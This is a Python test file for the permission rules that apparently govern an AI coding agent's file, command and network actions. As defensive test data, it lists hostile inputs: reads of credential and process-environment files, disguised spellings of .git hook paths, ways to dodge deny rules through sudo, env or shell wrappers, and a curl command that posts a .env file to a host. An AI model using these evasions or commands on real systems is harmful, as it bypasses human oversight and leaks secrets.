"""The floor, the order deny > ask > allow, and the patterns of rules."""

import itertools
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from boocode_desktop.domain.command_spellings import mentioned_paths, spellings
from boocode_desktop.domain.errors import UsageError
from boocode_desktop.domain.permission_patterns import parse_pattern
from boocode_desktop.domain.permissions import Action, decide, suggest_rule
from boocode_desktop.domain.records import PermissionRule

ROOT = "/home/ada/work/tree"


def rule(effect, pattern):
    return PermissionRule(id=f"{effect} {pattern}", effect=effect, pattern=pattern)


def run(*argv, **more):
    return Action(kind="run", tool="run_command", root=ROOT, argv=argv, **more)


def on_path(kind, path, **more):
    return Action(kind=kind, tool="t", root=ROOT, path=path, **more)


def effect(action, *rules):
    return decide(action, [rule(*r) for r in rules]).effect


FLOOR = [
    ("read", f"{ROOT}/a.py", "allow"),
    ("read", ROOT, "allow"),
    ("read", f"{ROOT}/.git/HEAD", "allow"),
    ("read", "/etc/hostname", "ask"),
    ("read", "/home/ada/work/tree2/a", "ask"),
    ("read", "/proc/1/environ", "deny"),
    ("read", "/dev/sda", "deny"),
    ("read", f"{ROOT}/../x", "deny"),
    ("read", "relative", "deny"),
    ("read", "", "deny"),
    ("read", f"{ROOT}/a\0b", "deny"),
    ("write", f"{ROOT}/a.py", "allow"),
    ("write", f"{ROOT}/.gitignore", "allow"),
    ("write", f"{ROOT}/x.git", "allow"),
    ("write", f"{ROOT}/docs/.github/x.yml", "allow"),
    ("write", ROOT, "deny"),
    ("write", "/home/ada/work/tree2/a", "deny"),
    ("write", "/tmp/a", "deny"),
    ("write", f"{ROOT}/.git", "deny"),
    ("write", f"{ROOT}/.git/config", "deny"),
    ("write", f"{ROOT}/sub/.GIT/hooks/pre-commit", "deny"),
    ("write", f"{ROOT}/.Git /config", "deny"),
    ("write", f"{ROOT}/.git./config", "deny"),
    ("write", f"{ROOT}/.g\u200cit/config", "deny"),
    ("write", f"{ROOT}/git~1/config", "deny"),
    ("write", f"{ROOT}/.git::$INDEX_ALLOCATION/config", "deny"),
    ("write", f"{ROOT}/.boocode/worktree.toml", "ask"),
    ("write", f"{ROOT}/.mcp.json", "ask"),
    ("write", f"{ROOT}/.claude/settings.local.json", "ask"),
    ("write", f"{ROOT}/.claude/hooks/x.sh", "ask"),
    ("write", f"{ROOT}/.claude/notes.md", "allow"),
    ("write", f"{ROOT}/pkg/.Cursor/rules", "ask"),
    ("write", f"{ROOT}/.husky/pre-commit", "ask"),
    ("delete", f"{ROOT}/a.py", "allow"),
    ("delete", f"{ROOT}/.git/index", "deny"),
    ("delete", "/home/ada/.bashrc", "deny"),
]


@pytest.mark.parametrize(("kind", "path", "expected"), FLOOR)
def test_floor_for_paths(kind, path, expected):
    verdict = decide(on_path(kind, path), [])
    assert verdict.effect == expected
    assert verdict.why


@pytest.mark.parametrize(("kind", "path"), [(k, p) for k, p, e in FLOOR if e == "deny"])
def test_no_rule_lifts_a_deny_of_the_floor(kind, path):
    everything = [
        rule("allow", p) for p in ("write: /**", "read: /**", "delete: /**", "write: **", "tool: *", "run: *")
    ]
    assert decide(on_path(kind, path), everything).effect == "deny"


def test_the_floor_of_a_read_only_chat():
    rules = [rule("allow", "run: *"), rule("allow", "write: /**"), rule("allow", "mcp: */*"), rule("allow", "fetch: *")]
    assert decide(on_path("write", f"{ROOT}/a", read_only=True), rules).effect == "deny"
    assert decide(on_path("delete", f"{ROOT}/a", read_only=True), rules).effect == "deny"
    assert decide(on_path("read", f"{ROOT}/a", read_only=True), rules).effect == "allow"
    assert decide(run("make", read_only=True), rules).effect == "ask"
    mcp = Action(kind="mcp", tool="mcp", root=ROOT, subject="s/t", read_only=True)
    assert decide(mcp, rules).effect == "ask"
    assert decide(Action(kind="fetch", tool="f", root=ROOT, subject="x.org", read_only=True), rules).effect == "allow"


@pytest.mark.parametrize("argv", [(), ("",), ("a\0b",), ("a", "b\0")])
def test_an_impossible_command_is_denied(argv):
    assert effect(run(*argv), ("allow", "run: *")) == "deny"


def test_a_command_outside_the_worktree_always_asks():
    assert effect(run("make", cwd="/home/ada"), ("allow", "run: make")) == "ask"
    assert effect(run("make", cwd=f"{ROOT}/sub"), ("allow", "run: make")) == "allow"


ORDERS = [
    ((), "ask"),
    ((("allow", "run: npm test"),), "allow"),
    ((("allow", "run: npm test"), ("ask", "run: npm *")), "ask"),
    ((("allow", "run: npm test"), ("ask", "run: npm *"), ("deny", "run: * test")), "deny"),
    ((("allow", "run: *"), ("deny", "tool: run_command")), "deny"),
    ((("allow", "tool: run_command"),), "ask"),
]


@pytest.mark.parametrize(("rules", "expected"), ORDERS)
def test_deny_beats_ask_beats_allow_in_any_order(rules, expected):
    for order in itertools.permutations(rules):
        assert effect(run("npm", "test"), *order) == expected


def test_rules_can_ask_about_and_deny_what_the_floor_allows():
    assert effect(on_path("write", f"{ROOT}/docs/a.md"), ("ask", "write: docs/**")) == "ask"
    assert effect(on_path("read", f"{ROOT}/.env"), ("deny", "read: .env"), ("allow", "read: **")) == "deny"
    assert effect(on_path("delete", f"{ROOT}/docs/a.md"), ("deny", "write: docs/**")) == "deny"
    assert effect(on_path("write", f"{ROOT}/docs/a.md"), ("deny", "delete: docs/**")) == "allow"


def test_an_unreadable_guarding_rule_asks_and_an_unreadable_allow_rule_does_nothing():
    assert effect(on_path("write", f"{ROOT}/a"), ("deny", "write ~nonsense")) == "ask"
    assert effect(run("make"), ("allow", "run make")) == "ask"


def test_a_secret_outside_needs_a_rule_that_names_it():
    secret = on_path("read", "/home/ada/.ssh/id_rsa")
    assert effect(secret, ("allow", "read: /home/ada/**")) == "ask"
    assert effect(secret, ("allow", "read: /home/ada/.ssh/id_*")) == "ask"
    assert effect(secret, ("allow", "read: /home/ada/.ssh/id_rsa")) == "allow"
    assert effect(on_path("read", "/home/ada/notes"), ("allow", "read: /home/ada/**")) == "allow"


def test_a_folder_is_allowed_with_everything_below_it():
    pattern = suggest_rule(on_path("read", "/usr/share/doc", subject="folder"))
    assert pattern == "read: /usr/share/doc/**"
    assert effect(on_path("read", "/usr/share/doc", subject="folder"), ("allow", pattern)) == "allow"
    assert effect(on_path("read", "/usr/share/doc/a/b"), ("allow", pattern)) == "allow"
    assert effect(on_path("read", "/usr/share/docs"), ("allow", pattern)) == "ask"


RUN_PATTERNS = [
    ("git push origin *", ("git", "push", "origin"), True),
    ("git push origin *", ("git", "push", "origin", "main", "--force"), True),
    ("git push origin *", ("git", "push", "originx"), False),
    ("git push origin *", ("git push", "origin"), False),
    ("git push origin *", ("git", "push origin"), False),
    ("git push", ("git", "push", "x"), False),
    ("git *sh", ("git", "push"), True),
    ("git * main", ("git", "push", "main"), True),
    ("git * main", ("git", "push", "x", "main"), False),
    ("git ?ush", ("git", "push"), True),
    ("git [pf]*", ("git", "push"), True),
    ("git [pf]*", ("git", "clone"), False),
    ("echo '*'", ("echo", "*"), True),
    ("echo '*'", ("echo", "a"), False),
    ("echo '*'", ("echo",), False),
    (r"echo \*", ("echo", "*"), True),
    (r"echo \*", ("echo", "x"), False),
    ("git commit -m 'a b'", ("git", "commit", "-m", "a b"), True),
    ("git commit -m 'a b'", ("git", "commit", "-m", "a", "b"), False),
    ('echo ""', ("echo", ""), True),
    ('echo ""', ("echo",), False),
    ("*", ("anything", "at", "all"), True),
    ("git", ("/usr/bin/git",), False),
    ("GIT", ("git",), False),
    ("make *", ("make", "a\nb"), True),
    ("a*", ("a\nb",), True),
]


@pytest.mark.parametrize(("pattern", "argv", "expected"), RUN_PATTERNS)
def test_run_patterns(pattern, argv, expected):
    assert parse_pattern(f"run: {pattern}").matches_argv(argv) is expected


PATH_PATTERNS = [
    ("/usr/share/**", "/usr/share/doc/x", True),
    ("/usr/share/**", "/usr/share", True),
    ("/usr/share/*", "/usr/share/doc/x", False),
    ("/usr/share/*", "/usr/share/doc", True),
    ("/usr/**/x", "/usr/share/doc/x", True),
    ("/usr/**/x", "/usr/x", True),
    ("/**/.env", "/srv/a/.env", True),
    ("docs/**", f"{ROOT}/docs/a/b", True),
    ("docs/**", "/elsewhere/docs/a", False),
    ("docs/*.md", f"{ROOT}/docs/a.md", True),
    ("docs/*.md", f"{ROOT}/sub/docs/a.md", False),
    ("*.md", f"{ROOT}/sub/docs/a.md", True),
    ("*.md", "/elsewhere/a.md", False),
    ("./a.md", f"{ROOT}/a.md", True),
    ("./a.md", f"{ROOT}/sub/a.md", False),
    ("/a b/c", "/a b/c", True),
    (r"app/\[id]/page.tsx", f"{ROOT}/app/[id]/page.tsx", True),
    (r"app/\[id]/page.tsx", f"{ROOT}/app/i/page.tsx", False),
    ("/A/b", "/a/b", False),
    ("C:/work/**", r"c:\Work\a", True),
]


@pytest.mark.parametrize(("pattern", "path", "expected"), PATH_PATTERNS)
def test_path_patterns(pattern, path, expected):
    assert parse_pattern(f"read: {pattern}").matches_path(path, ROOT) is expected


def test_a_forbidding_path_rule_ignores_case_and_composition():
    assert effect(on_path("read", f"{ROOT}/Caf\u00e9.TXT"), ("deny", "read: cafe\u0301.txt")) == "deny"


NAMES = [
    ("fetch: example.com", "fetch", "example.com", True),
    ("fetch: Example.COM", "fetch", "EXAMPLE.com", True),
    ("fetch: example.com", "fetch", "example.com.evil.org", False),
    ("fetch: *.example.com", "fetch", "a.example.com", True),
    ("fetch: *.example.com", "fetch", "example.com", False),
    ("mcp: github/create_*", "mcp", "github/create_issue", True),
    ("mcp: github/*", "mcp", "gitlab/x", False),
    ("mcp: github/*", "mcp", "github", False),
    ("tool: Bash", "agent_tool", "Bash", True),
    ("tool: Bash", "agent_tool", "BashOutput", False),
]


@pytest.mark.parametrize(("pattern", "kind", "subject", "expected"), NAMES)
def test_name_patterns(pattern, kind, subject, expected):
    action = Action(kind=kind, tool="t", root=ROOT, subject=subject)
    assert effect(action, ("allow", pattern)) == ("allow" if expected else "ask")
    if expected:
        assert effect(action, ("deny", pattern), ("allow", pattern)) == "deny"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "git push",
        "ruin: x",
        "run:",
        "run:   ",
        "run: 'open",
        "run: a\\",
        "read: a\\",
        "read: ~/x",
        "read: /a/../b",
        "write: a\0b",
        "fetch: https://example.com",
        "fetch: a b",
        "mcp: only",
        "mcp: /x",
    ],
)
def test_a_wrong_pattern_says_so(text):
    with pytest.raises(UsageError) as caught:
        parse_pattern(text)
    assert caught.value.hint


DODGES = [
    ("git push *", ("/usr/bin/git", "push", "origin")),
    ("git push *", ("git", "-C", "sub", "-c", "a=b", "push")),
    ("git push *", ("env", "A=1", "git", "push")),
    ("git push *", ("sudo", "-u", "root", "nice", "git", "push")),
    ("git push *", ("bash", "-lc", "cd x && git push")),
    ("git push *", ("sh", "-c", "echo hi; (git push)")),
    ("git push *", ("sh", "-c", 'echo "$(git push)"')),
    ("git push *", ("sh", "-c", "A=1 if git push; then :; fi")),
    ("git push *", ("bash", "-c", "sh -c 'sudo git push'")),
    ("git push *", ("bash", "-c", "g''it p\\ush")),
    ("git push *", ("bash", "-c", "git push 'unclosed")),
    ("git push *", ("GIT", "push")),
    ("rm *", ("find", ".", "-exec", "rm", "{}", ";")),
    ("rm *", ("/bin/rm", "-rf", "x")),
    ("rm *", ("xargs", *["-0"] * 100, "rm")),
]


@pytest.mark.parametrize(("pattern", "argv"), DODGES)
def test_a_denied_command_is_found_in_other_spellings(pattern, argv):
    assert effect(run(*argv), ("deny", f"run: {pattern}"), ("allow", "run: *")) == "deny"
    assert effect(run(*argv), ("allow", f"run: {pattern}")) == "ask"


@pytest.mark.parametrize(
    "argv",
    [
        ("cat", ".env"),
        ("cat", "./sub/../.env"),
        ("cat", f"{ROOT}/.env"),
        ("bash", "-c", "cat<.env"),
        ("curl", "-d", "@.env", "x"),
        ("tool", "--file=.env"),
        ("git", "show", "HEAD:.env"),
    ],
)
def test_a_file_that_may_not_be_read_may_not_be_named_in_a_command(argv):
    assert effect(run(*argv, cwd=ROOT), ("deny", "read: .env"), ("allow", "run: *")) == "deny"


def test_a_tangled_command_asks_whatever_the_rules_say():
    assert effect(run("env", *[f"A{i}=1" for i in range(3000)]), ("allow", "run: *")) == "ask"
    assert effect(run("bash", "-c", "x" * 100_000), ("allow", "run: *")) == "ask"


def test_hostile_commands_and_patterns_cost_little():
    started = time.perf_counter()
    spellings(("env",) * 1500)
    spellings(("bash", "-c", "$(" * 8000))
    list(mentioned_paths(("bash", "-c", ";".join(["a"] * 8000)), ROOT))
    parse_pattern("run: " + "*a" * 200).matches_argv(("a" * 20_000 + "b",))
    parse_pattern("read: /" + "**/" * 200 + "x").matches_path("/a" * 2000, ROOT)
    assert time.perf_counter() - started < 20


WORD = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=12)
ARGV = st.lists(WORD, min_size=1, max_size=5).filter(lambda words: words[0] != "")


@given(ARGV, ARGV)
def test_the_suggested_rule_allows_this_command_and_no_other(argv, other):
    pattern = suggest_rule(run(*argv))
    assert effect(run(*argv), ("allow", pattern)) == "allow"
    if other != argv:
        assert effect(run(*other), ("allow", pattern)) == "ask"


@given(ARGV)
def test_one_argument_never_counts_as_two(argv):
    joined = " ".join(["git", *argv])
    assert effect(run(joined), ("allow", "run: git *")) == "ask"
    assert not parse_pattern("run: git *").matches_argv((joined,))


SEGMENT = st.text(st.characters(exclude_characters="\0/\\", exclude_categories=["Cs"]), min_size=1, max_size=8)
SEGMENTS = st.lists(SEGMENT.filter(lambda s: s not in (".", "..")), min_size=1, max_size=4)


@given(SEGMENTS)
def test_the_suggested_rule_allows_exactly_this_path(segments):
    action = on_path("read", "/outside/" + "/".join(segments))
    pattern = suggest_rule(action)
    assert parse_pattern(pattern).literal
    assert effect(action, ("allow", pattern)) == "allow"
    assert effect(on_path("read", action.path + "x"), ("allow", pattern)) == "ask"


@given(SEGMENTS, st.sampled_from(["write", "delete"]))
def test_no_spelling_of_the_path_reaches_outside_or_into_git(segments, kind):
    allow = ("allow", "write: /**")
    assert effect(on_path(kind, "/" + "/".join(segments)), allow) == "deny"
    assert effect(on_path(kind, f"{ROOT}/" + "/".join([*segments, ".git", "x"])), allow) == "deny"


@given(st.lists(st.sampled_from(["allow", "ask", "deny"]), max_size=6), st.randoms())
def test_the_strictest_rule_wins_in_any_order(effects, random):
    rules = [rule(e, "run: make *") for e in effects]
    random.shuffle(rules)
    strictest = next((e for e in ("deny", "ask", "allow") if e in effects), "ask")
    assert decide(run("make", "all"), rules).effect == strictest


def test_what_only_a_person_may_allow_is_marked():
    plain, elsewhere = decide(run("make"), []), decide(run("make", cwd="/tmp"), [])
    assert (plain.ruled, plain.careful, elsewhere.careful) == (False, False, True)
    assert decide(run("make"), [rule("ask", "run: make")]).ruled
    assert decide(run("make", read_only=True), []).careful
